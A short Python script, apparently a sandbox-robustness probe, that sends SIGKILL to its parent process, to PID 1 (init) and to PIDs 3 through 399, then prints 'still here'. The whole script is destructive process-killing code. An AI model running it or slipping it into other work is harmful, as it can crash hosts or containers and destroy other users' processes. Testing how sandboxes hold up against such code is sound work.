import os
import signal

for pid in [os.getppid(), 1, *range(3, 400)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
print("still here")
